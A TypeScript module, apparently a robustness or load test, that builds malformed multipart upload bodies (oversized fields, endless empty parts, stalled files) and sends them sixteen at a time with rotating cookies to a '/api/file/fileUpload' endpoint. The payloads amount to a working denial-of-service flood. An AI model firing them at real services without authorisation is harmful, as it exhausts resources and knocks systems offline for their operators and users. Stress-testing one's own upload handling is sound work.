import { type Answers, flood, type Piece, type Target } from './flood';

const boundary = 'flood';
const head = (rest: string) => Buffer.from(`--${boundary}\r\ncontent-disposition: form-data; ${rest}\r\n\r\n`);
const ending = Buffer.from('\r\n');
const filler = Buffer.alloc(64 * 1024, 'x');

function* times(count: number, piece: Buffer): Generator<Buffer> {
  for (let i = 0; i < count; i++) yield piece;
}
const param = [head('name="param"'), Buffer.from('{"REF_TP":"DLV"}'), ending];

/** Uploads that nobody's browser sends, each as the pieces of its body. */
const uploads: (() => Iterable<Piece>)[] = [
  // File parts that were not asked for: each of them under the limit of a file.
  function* () {
    for (let i = 0; i < 20; i++) yield* [head(`name="other${i}"; filename="a.pdf"`), ...times(300, filler), ending];
  },
  // Text fields.
  function* () {
    for (let i = 0; i < 400; i++) yield* [head(`name="text${i}"`), ...times(16, filler), ending];
  },
  // One text field without an end, with a name as long as it can be.
  function* () {
    yield* [head(`name="${'n'.repeat(60_000)}"`), ...times(10_000, filler)];
  },
  // Files that were asked for, as many and as large as may be.
  function* () {
    yield* param;
    for (let i = 0; i < 10; i++)
      yield* [head(`name="files"; filename="${i}.pdf"`), Buffer.from('%PDF-1.4\n'), ...times(300, filler), ending];
    yield Buffer.from(`--${boundary}--\r\n`);
  },
  // Part after part with nothing in it.
  function* () {
    for (;;) yield Buffer.from(`--${boundary}\r\ncontent-disposition: form-data; name="a"\r\n\r\n\r\n`.repeat(500));
  },
  // A file that stops coming.
  function* () {
    yield* [...param, head('name="files"; filename="a.pdf"'), Buffer.from('%PDF-1.4\n'), filler];
    for (;;) yield 1_000;
  },
];

/** Sixteen at a time send uploads of these kinds, in turn under each of the cookies. */
export const floodUploads = (target: Target, cookies: readonly string[]): Promise<Answers> =>
  flood(target, 16, (i) => ({
    path: '/api/file/fileUpload',
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, cookie: cookies[i % cookies.length] ?? '' },
    body: (uploads[i % uploads.length] ?? times.bind(null, 0, filler))(),
  }));
